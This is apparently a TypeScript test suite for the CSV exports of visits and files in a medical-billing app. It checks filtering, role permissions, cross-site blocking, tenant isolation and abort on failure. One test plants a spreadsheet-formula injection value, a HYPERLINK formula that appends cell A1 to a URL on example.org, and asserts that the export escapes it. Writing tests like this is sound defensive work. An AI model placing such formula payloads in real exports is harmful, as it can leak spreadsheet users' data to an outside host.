/** Exports for a spreadsheet: what is seen and nothing else, for who may, and harmless whatever the texts say. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../src/core/kernel/csv.ts";
import type { EncounterId } from "../../src/core/kernel/id.ts";
import { buildServer } from "../../src/http/server.ts";
import { plainCookie } from "../../src/http/session-cookie.ts";
import { setRole } from "../../src/store/access/memberships.ts";
import { insertEncounters, loadEncounter, type NewEncounter } from "../../src/store/encounters.ts";
import { sql } from "../../src/store/sql.ts";
import { outsidePractices } from "../../src/store/transaction.ts";
import { failingAfter } from "../support/failing-pool.ts";
import { marker, memberOf, openTwoPractices, type TwoPractices } from "./other-practice.ts";

let two: TwoPractices;
const sting = `=HYPERLINK("http://example.org/?"&A1,"click")`;

beforeAll(async () => {
  two = await openTwoPractices();
  await two.mine.inTx((tx) => tx.run(sql`update encounter set reason = ${sting} where id = (select max(id) from encounter)`));
});
afterAll(() => two.close());

const ask = (url: string, payload: object = {}, headers = two.asMine) =>
  two.server.inject({ method: "POST", url: `/api/v1${url}`, headers, payload });

describe("the export of visits", () => {
  it("has the visits of the list with their amounts as numbers, and is a file of its own", async () => {
    const answer = await ask("/visits/export");
    expect([answer.statusCode, answer.headers["content-type"]]).toEqual([200, "text/csv; charset=utf-8"]);
    expect(answer.headers["content-disposition"]).toBe('attachment; filename="visits.csv"');
    expect(answer.headers["cache-control"]).toBe("no-store");
    const [head, ...rows] = parseCsv(answer.body);
    expect(head?.slice(0, 2)).toEqual(["Date", "Patient"]);
    const listed = (await two.server.inject({ url: "/api/v1/visits", headers: two.asMine })).json<{
      visits: { date: string; patientName: string; charged: number }[];
    }>().visits;
    expect(rows.map((row) => [row[0], row[1], Number(row[8])])).toEqual(
      listed.map((visit) => [visit.date, visit.patientName, visit.charged / 100]),
    );
    expect(rows).toHaveLength(4);
  });

  it("is what is seen: the queue and the words that are looked for", async () => {
    const names = async (seen: object) =>
      parseCsv((await ask("/visits/export", seen)).body)
        .slice(1)
        .map((row) => row[1]);
    const all = await names({});
    expect(await names({ queues: ["needs-coding"] })).toHaveLength(1);
    expect(await names({ find: "osei" })).toEqual(all.filter((name) => name?.startsWith("Osei")));
    expect(await names({ find: "nobody of that name" })).toEqual([]);
    expect((await ask("/visits/export", { queues: ["no-queue"] })).statusCode).toBe(400);
  });

  it("gives a spreadsheet no formula, and a reader the text as it was", async () => {
    const { body } = await ask("/visits/export");
    expect(body).toContain(`"'=HYPERLINK(""http://example.org/?""&A1,""click"")"`);
    expect(parseCsv(body).map((row) => row[3])).toContain(sting);
    expect(body).not.toMatch(/(^|,|\n)"?[=+@]/);
  });

  it("is closed to a role without the permission, and open to no other site", async () => {
    const { pool } = two.town.database;
    const coder = await memberOf(pool, two.mine.context.practiceId, "coder@example.org");
    await outsidePractices(pool, (queries) =>
      setRole(queries, { accountId: coder.accountId, practiceId: two.mine.context.practiceId, role: "coder" }),
    );
    const answer = await ask("/visits/export", {}, { ...two.asMine, cookie: `${plainCookie}=${coder.token}` });
    expect([answer.statusCode, answer.json().problem]).toEqual([403, "not-allowed"]);
    const { "x-claimwright": _, ...foreign } = two.asMine;
    expect((await ask("/visits/export", {}, foreign)).statusCode).toBe(403);
  });

  it("is cut off, not quietly shortened, when a page fails on the way", async () => {
    await two.mine.inTx(async (tx) => {
      const { id: last } = await tx.one<{ id: EncounterId }>(sql`select max(id) as id from encounter where practice_id = ${tx.practiceId}`);
      const visit = await loadEncounter(tx, last);
      if (visit !== undefined) await insertEncounters(tx, Array<NewEncounter>(600).fill({ ...visit, reason: "one of many" }));
    });
    expect(parseCsv((await ask("/visits/export")).body)).toHaveLength(605);
    // One connection says who asks, one reads which visits there are, one the first page; the second page finds none.
    const server = await buildServer({ app: failingAfter(two.mine.app, 3), version: "test", letPayersAnswer: async () => {} });
    try {
      const address = await server.listen({ host: "127.0.0.1", port: 0 });
      const asked = fetch(`${address}/api/v1/visits/export`, {
        method: "POST",
        headers: { cookie: two.asMine.cookie ?? "", "x-claimwright": "1", "content-type": "application/json" },
        body: "{}",
      });
      await expect(asked.then((response) => response.text())).rejects.toThrow();
    } finally {
      await server.close();
    }
  });
});

describe("the export of files", () => {
  it("has the files of the list, and none of another practice", async () => {
    const answer = await ask("/files/export");
    expect(answer.statusCode).toBe(200);
    const listed = (await two.server.inject({ url: "/api/v1/files", headers: two.asMine })).json<{
      files: { name: string; bytes: number }[];
    }>().files;
    expect(listed.length).toBeGreaterThan(3);
    expect(
      parseCsv(answer.body)
        .slice(1)
        .map((row) => [row[2], Number(row[4])]),
    ).toEqual(listed.map(({ name, bytes }) => [name, bytes]));
    expect(answer.body).not.toContain(marker);
  });
});
